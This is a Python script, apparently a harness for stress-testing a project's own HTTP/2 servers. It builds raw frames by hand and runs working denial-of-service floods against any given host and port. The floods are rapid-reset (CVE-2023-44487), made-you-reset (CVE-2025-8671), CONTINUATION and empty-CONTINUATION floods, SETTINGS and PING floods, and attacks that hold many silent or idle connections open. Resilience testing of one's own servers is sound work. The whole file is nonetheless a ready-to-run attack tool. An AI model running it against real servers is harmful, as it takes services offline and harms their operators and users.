"""An attack on an HTTP/2 port with raw frames: `python attacker.py ATTACK HOST:PORT PATH SECONDS CONNECTIONS`.

It imports the standard library only, so that no mistake of this project's client hides one of its servers. Frames are
those of RFC 9113, header fields literal or of the static table of RFC 7541. It prints a JSON object: frames, or
connections, that were `sent`, and connections that the server `ended` or `refused`.
"""

import contextlib
import json
import select
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor

HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 6, 8, 9
ACK, END_HEADERS = 1, 4
AT_ONCE = 256  # frames, or pairs of them, handed to the kernel together
TURN_S = 0.2


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value: str) -> bytes:
    return bytes([len(value)]) + value.encode()


def fields(path: str) -> bytes:
    """Header fields of a request of gRPC."""
    fixed = b"\x01" + text("localhost") + b"\x00" + text("content-type") + text("application/grpc")
    return b"\x83\x86\x04" + text(path) + fixed + b"\x00" + text("te") + text("trailers")


def pairs(path: str, second: Callable[[int], bytes]) -> Iterator[bytes]:
    """Requests, and what ends each at once."""
    return (frame(HEADERS, END_HEADERS, n, fields(path)) + second(n) for n in range(1, 1 << 31, 2))


def fragments(path: str, more: bytes) -> Iterator[bytes]:
    """Header fields without end."""
    yield frame(HEADERS, 0, 1, fields(path))
    while True:
        yield frame(CONTINUATION, 0, 1, more)


FLOODS: dict[str, Callable[[str], Iterator[bytes]]] = {
    "rapid-reset": lambda path: pairs(path, lambda n: frame(RST_STREAM, 0, n, bytes([0, 0, 0, 8]))),  # CVE-2023-44487
    # CVE-2025-8671: an increment of 0, for which the server itself must end the stream
    "made-you-reset": lambda path: pairs(path, lambda n: frame(WINDOW_UPDATE, 0, n, bytes(4))),
    "continuation": lambda path: fragments(path, b"\x00" + text("x") + text("y" * 100)),
    "empty-continuation": lambda path: fragments(path, b""),  # which no limit of sizes ends
    "settings": lambda path: iter(lambda: frame(SETTINGS, 0, 0, bytes([0, 4, 0, 0, 255, 255])), b""),
    "ping": lambda path: iter(lambda: frame(PING, 0, 0, bytes(8)), b""),
}
OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)
HELD = {"silent": b"", "idle": OPENING}  # sent by each connection before it waits
ATTACKS = (*FLOODS, *HELD)


def flood(make: Callable[[str], Iterator[bytes]], host: tuple[str, int], path: str, until: float) -> Counter[str]:
    """Send frames as fast as they are taken, and connect again where the server ends it."""
    counts = Counter[str]()
    while time.monotonic() < until:
        frames = make(path)
        try:
            with socket.create_connection(host, timeout=1.0) as connection:
                connection.sendall(OPENING)
                while time.monotonic() < until:
                    connection.sendall(b"".join(next(frames) for _ in range(AT_ONCE)))
                    counts["sent"] += AT_ONCE
                    while select.select([connection], [], [], 0)[0]:  # a peer that does not read is another attack
                        if not connection.recv(1 << 16):
                            raise ConnectionError
        except OSError as error:
            counts["stalled" if isinstance(error, TimeoutError) else "ended"] += 1
    return counts


def hold(opening: bytes, host: tuple[str, int], count: int, until: float) -> Counter[str]:
    """Keep many connections open, answer pings, and open another for each that ends."""
    counts, held, poll = Counter[str](), dict[int, socket.socket](), select.poll()
    while time.monotonic() < until:
        while len(held) < count and time.monotonic() < until:
            try:
                connection = socket.create_connection(host, timeout=1.0)
                connection.sendall(opening)
            except OSError:
                counts["refused"] += 1
                break
            counts["sent"] += 1
            held[connection.fileno()] = connection
            poll.register(connection, select.POLLIN)
        for number, _ in poll.poll(1000 * TURN_S):
            with contextlib.suppress(OSError):
                if data := held[number].recv(1 << 16):
                    if data[3] == PING and len(data) >= 17:
                        held[number].sendall(frame(PING, ACK, 0, data[9:17]))
                    continue
            counts["ended"] += 1
            poll.unregister(number)
            held.pop(number).close()
        time.sleep(TURN_S / 10)
    return counts


def main(attack: str, address: str, path: str, seconds: str, connections: str) -> None:
    name, _, port = address.rpartition(":")
    host, until, counts = (name, int(port)), time.monotonic() + float(seconds), Counter[str]()
    if attack in HELD:
        counts = hold(HELD[attack], host, int(connections), until)
    else:
        with ThreadPoolExecutor(int(connections)) as threads:
            each = threads.map(lambda _: flood(FLOODS[attack], host, path, until), range(int(connections)))
            counts = sum(each, counts)
    print(json.dumps(counts))


if __name__ == "__main__":
    main(*sys.argv[1:])
